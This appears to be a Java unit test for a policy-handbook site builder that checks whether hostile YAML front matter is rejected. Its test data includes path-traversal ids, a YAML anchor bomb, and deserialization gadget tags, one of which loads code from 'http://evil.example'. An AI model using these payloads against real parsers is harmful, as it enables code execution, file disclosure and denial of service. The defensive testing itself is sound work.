package io.github.policyhandbook.handbook;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import java.nio.file.Path;
import java.time.LocalDate;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Front matter that is broken or meant to break something, in a policy whose site stands already: now it is told or harmless,
 * in old revisions it stops nothing.
 */
@Timeout(value = 1, unit = TimeUnit.MINUTES, threadMode = Timeout.ThreadMode.SEPARATE_THREAD)
class HostileFrontMatterTest {

    private static final String TOO_LARGE = "1: the front matter is too large or too deeply nested.";
    private static final String UNREADABLE = ": the front matter cannot be read from here on.";

    @TempDir
    private Path folder;

    private SchoolSite school;

    @BeforeEach
    void aSiteThatStands() {
        school = SchoolSite.in(folder);
        school.repository().write("policies/visitors.md", "# Visitors\n\nKnock.\n");
        school.repository().commit(LocalDate.of(2024, 10, 1), "Adopt");
        school.build();
    }

    @AfterEach
    void end() {
        school.close();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "../../etc/passwd",
                "..",
                ".",
                "-",
                "..%2f..%2fetc",
                "%2e%2e%2fetc",
                "/etc/passwd",
                "C:\\\\Windows",
                "C:evil",
                "\\\\\\\\server\\\\share",
                "a/b",
                "a\\0b",
                "a\\nb",
                "a?b#c",
                "<script>",
                "\\u202Egnp.exe"
            })
    void anIdThatIsNoAddressStopsTheBuildAndInThePastNothing(String id) {
        commit("id: \"" + id + "\"");

        assertThat(school.refusal()).contains("must be mended");
        assertThat(school.told()).singleElement().asString().startsWith("policies/visitors.md:2: the id \"");
        assertMended();
    }

    @ParameterizedTest
    @CsvSource({
        "CON, CON-policy",
        "nul, nul-policy",
        "com1, com1-policy",
        "aux.md, aux-md",
        "index, index-policy",
        "INDEX, INDEX-policy",
        "schemas, schemas",
        "assets, assets"
    })
    void anIdThatMeansSomethingToASystemOrTheSiteGetsAPageBesideThat(String id, String page) {
        commit("id: \"" + id + "\"");

        school.build();

        assertThat(school.told()).isEmpty();
        assertThat(school.pages("policies")).contains(page);
        assertThat(school.words("policies/" + page + ".html")).startsWith("Sign in.");
    }

    @ParameterizedTest
    @MethodSource("factsThatStopTheBuild")
    void aFactThatDecidesWhatHoldsIsToldAndStopsTheBuildButNotInThePast(String facts, String told) {
        commit(facts);

        assertThat(school.refusal()).contains("One fault in the policies must be mended");
        assertThat(school.told()).singleElement().asString().startsWith("policies/visitors.md:" + told);
        assertMended();
    }

    static Stream<Arguments> factsThatStopTheBuild() {
        StringBuilder bomb = new StringBuilder("a0: &a0 [x, x]\n");
        for (int i = 1; i < 40; i++) {
            bomb.append("a" + i + ": &a" + i + " [*a" + (i - 1) + ", *a" + (i - 1) + "]\n");
        }
        return Stream.of(
                arguments(bomb + "audience: *a39", TOO_LARGE),
                arguments("title: " + "[".repeat(50_000), TOO_LARGE),
                arguments("title: " + "{a: ".repeat(5_000), TOO_LARGE),
                arguments("summary-of-changes: " + "x".repeat(100_000), TOO_LARGE),
                arguments("title: \"open", "2: a quotation mark is opened here and not closed."),
                arguments("title: a: b: c", "2" + UNREADABLE),
                arguments("title: *unknown", "2" + UNREADABLE),
                arguments("title: >\n  a\n b: [", "4" + UNREADABLE),
                arguments("\ttitle: tab", "2: the line begins with a tab"),
                arguments("approved: [2024-01-01]", "2: \"approved\" is not a date."),
                arguments(
                        "approved: 2024-13-45",
                        "2: the date \"2024-13-45\" of \"approved\" is not a day of the calendar."),
                arguments(
                        "effective: !!javax.script.ScriptEngineManager"
                                + " [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example\"]]]]",
                        "2: \"effective\" is not a date."),
                arguments("status: {a: b}", "2: the status given as a list is not known"),
                arguments("id: x\nid: y", "3: the key \"id\" is used twice (first on line 2)."));
    }

    @ParameterizedTest
    @MethodSource("factsThatAreLeftOut")
    void aFactThatDecidesNothingIsToldAndLeftOut(String facts, String told) {
        commit(facts);

        school.build();

        assertThat(school.told()).singleElement().asString().startsWith("policies/visitors.md:" + told);
        assertThat(school.file("policies/visitors.html")).contains("<title>Visitors &#8211; ");
        assertThat(school.words("policies/visitors.html")).startsWith("Sign in.");
        assertMended();
    }

    static Stream<Arguments> factsThatAreLeftOut() {
        return Stream.of(
                arguments("title: &t [*t]", "2: \"title\" is not plain words."),
                arguments("title: [a, b]", "2: \"title\" is not plain words."),
                arguments("owner:\n  a: b", "3: \"owner\" is not plain words."),
                arguments("contacts: &c\n  a: *c", "2: \"contacts\" does not say who has which role."),
                arguments("contacts: words", "2: \"contacts\" does not say who has which role."),
                arguments("review-every: often", "2: \"review-every\" says \"often\", which is no length of time."),
                arguments("acknowledgement: perhaps", "2: \"acknowledgement\" is neither yes nor no."),
                arguments("title: Visitors\ntitle: Callers", "3: the key \"title\" is used twice (first on line 2)."));
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "title: !!javax.script.ScriptEngineManager visitors | visitors",
                "title: !!java.io.File /etc/passwd                  | /etc/passwd",
                "title: !!python/object/apply:os.system visitors    | visitors"
            })
    void aTagMakesNoObjectAndIsNoPartOfTheWords(String facts, String title) {
        commit(facts);

        school.build();

        assertThat(school.told()).isEmpty();
        assertThat(school.file("policies/visitors.html")).contains("<title>" + title + " &#8211; ");
        assertThat(school.words("policies/visitors.html")).endsWith("Sign in.");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "? [complex, key] | ? [complex, key]",
                "<<: {title: Hi}  | &lt;&lt;: {title: Hi}",
            })
    void linesThatBeginWithNoKeyAreNoFrontMatterAndAreShownAsTheyStand(String line, String shown) {
        commit(line);

        school.build();

        assertThat(school.file("policies/visitors.html")).contains(shown);
        assertThat(school.words("policies/visitors.html")).contains("Sign in.");
    }

    /** Puts the facts above a new text. */
    private void commit(String facts) {
        school.repository().write("policies/visitors.md", "---\n" + facts + "\n---\n# Visitors\n\nSign in.\n");
        school.repository().commit(LocalDate.of(2025, 10, 1), "Amend");
    }

    /** The next text is right, and of the one before no word is told. */
    private void assertMended() {
        school.repository().write("policies/visitors.md", "# Visitors\n\nSign in and out.\n");
        school.repository().commit(LocalDate.of(2026, 10, 1), "Mend");

        school.build();

        assertThat(school.told()).isEmpty();
        assertThat(school.words("policies/visitors.html")).startsWith("Sign in and out.");
        assertThat(school.words("2024-2025/visitors.html")).isEqualTo("Knock.");
    }
}
